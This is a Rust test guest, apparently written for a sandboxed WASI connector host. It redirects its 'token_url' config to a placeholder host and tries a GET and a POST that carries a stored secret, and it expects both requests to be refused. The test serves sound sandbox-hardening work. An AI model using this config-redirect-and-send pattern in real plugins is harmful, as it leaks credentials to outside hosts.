//! Puts a foreign URL into the config of its source, and sends requests there, also with the secret.

use hostile_guests::wasi::http::types::Method;
use hostile_guests::{
    Batch, Config, Error, Hostile, SourcesPage, all_refused, get, hostile, one_source, secret, send,
};

struct Guest;

impl Hostile for Guest {
    fn discover(config: &Config) -> Result<SourcesPage, Error> {
        let url = format!("https://source.example:{}/", config.port());
        Ok(one_source(config.with("token_url", &url)))
    }

    fn collect(config: &Config, _cursor: Option<&str>) -> Result<Batch, Error> {
        let url = config.text("token_url");
        let secret = secret("secret").unwrap_or_default();
        all_refused([
            (url.to_owned(), get(url)),
            (
                format!("{url} with the secret"),
                send(&Method::Post, url, &[], secret.as_bytes()),
            ),
        ])
    }
}

hostile!(Guest);
